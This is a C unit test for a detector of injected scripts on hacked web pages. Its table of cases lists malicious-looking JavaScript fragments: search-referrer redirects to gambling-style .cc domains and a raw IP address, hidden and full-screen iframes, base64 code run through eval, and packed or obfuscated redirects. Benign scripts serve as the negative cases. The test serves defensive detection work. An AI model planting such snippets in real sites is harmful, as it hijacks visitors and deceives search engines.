/* SPDX-License-Identifier: Apache-2.0
 *
 * Scripts as they are found on hacked pages (DOMAIN 5.4: H8, H9, C2, C3), and those of every day. In canonical text, their
 * escapes undone, as the HTML reader gives them.
 */
#include "tamper/script.h"

#include <criterion/criterion.h>
#include <string.h>

static const struct host_entry entries[] = {
    { "gov.cn", HOST_TRUSTED }, { "baidu.com", HOST_TRUSTED }, { "google-analytics.com", HOST_TRUSTED }, { "cc", HOST_ODD },
};

enum { WRITES = 1, DECODES = 2, PACKS = 4, DIVERTS = 8, NAMES = 16, RUNS = 32, COVERS = 64, JUMPS = 128 };

static unsigned signs_of(const struct script_words *words, const struct host_list *hosts, const char *text)
{
    struct script_signs signs = script_read(words, hosts, text, strlen(text));

    return (signs.writes ? WRITES : 0u) | (signs.decodes ? DECODES : 0u) | (signs.packs ? PACKS : 0u)
           | (signs.diverts ? DIVERTS : 0u) | (signs.names_odd_host ? NAMES : 0u) | (signs.runs ? RUNS : 0u)
           | (signs.covers ? COVERS : 0u) | (signs.jumps ? JUMPS : 0u);
}

Test(script, does_what_its_words_say)
{
    static const struct {
        const char *text;
        unsigned signs;
    } scripts[] = {
        { "if(document.referrer.indexof(\"baidu\")>0){location.href=\"http://m.yabo77.cc/\"}", DIVERTS },
        { "var s=document.referrer; if(s.indexof(\"sogou\")>0||s.indexof(\"so.com\")>0) self.location=\"http://23.224.11.8/\";",
          DIVERTS },
        { "if(/baiduspider|sogou/i.test(navigator.useragent)){window.location.replace(\"//www.jump.com/a\");}", DIVERTS },
        { "document.write(string.fromcharcode(<a href=\"http://m.yabo77.cc\">x</a>))", WRITES | DECODES },
        { "document.write(\"<iframe src='http://abc.com/' width=0></iframe>\")", WRITES },
        { "var u=atob(\"bg9jyxrpb24uahjlzj1odhrwoi8vzmw4odguaw5mbw==\");eval(u)", RUNS },
        { "eval(function(p,a,c,k,e,d){return p}(\"0.1(2)\",3,3,\"document|write|zq77.com\".split(\"|\"),0,{}))",
          PACKS | NAMES },
        { "eval(function(p,a,c,k,e,d){return p}(\"0.1(2)\",3,3,\"jquery|fn|migrate\".split(\"|\"),0,{}))", PACKS },
        { "var _0x3f=[\"http://www.abc99.cc\"];window[\"location\"][\"href\"]=_0x3f[0];", PACKS | NAMES },
        { "window.location.href=\"http://www.qp885.cc/\"", JUMPS },
        { "top.location = 'http://www.qp885.cc'", JUMPS },
        { "var r=document.referrer;if(r.indexof(\"baidu\")!=-1){document.writeln(\"<script src='//js.abc.com/go.js'>\")}",
          DIVERTS | WRITES },
        { "document.write('<div style=\"position:fixed;width:100%\"><iframe src=\"http://abc.com/\"></iframe></div>')",
          WRITES | COVERS },
        { "document.write('<iframe src=\"http://abc.com/\" style=\"position:absolute;height:100%\">')", WRITES | COVERS },
        /* Scripts of every day. */
        { "location.href=\"http://www.partner.com/\"", 0 },
        { "location.href=\"http://www.xingyi.gov.cn/\"", 0 },
        { "return string.fromcharcode(eval($0.replace(/x/g,'')));", 0 },
        { "document.write('<iframe src=\"http://abc.gov.cn/\" style=\"position:absolute;height:100%\">')", 0 },
        { "document.write(new date().getfullyear())", 0 },
        { "if(/android|iphone/.test(navigator.useragent)){location.href=\"/m/\"}", 0 },
        { "if(/android|iphone/.test(navigator.useragent)){location.href=\"http://m.xingyi.gov.cn/\"}", 0 },
        { "var hm=document.createelement(\"script\");hm.src=\"https://hm.baidu.com/hm.js?1\";var r=document.referrer;", 0 },
        { "document.write(\"<script src='//hm.baidu.com/h.js'></script>\")", 0 },
        { "var r=document.referrer; if(r.indexof(\"baidu\")>0){count(\"baidu\");}", 0 },
        { "", 0 },
    };
    struct arena *arena;
    const struct script_words *words;
    const struct host_list *hosts;

    cr_assert_eq(arena_create(&arena), STATUS_OK);
    cr_assert_eq(script_words_create(arena, &words), STATUS_OK);
    cr_assert_eq(host_list_create(entries, sizeof entries / sizeof *entries, arena, &hosts), STATUS_OK);
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++)
        cr_expect_eq(signs_of(words, hosts, scripts[i].text), scripts[i].signs, "%s: %u", scripts[i].text,
                     signs_of(words, hosts, scripts[i].text));
    arena_destroy(arena);
}
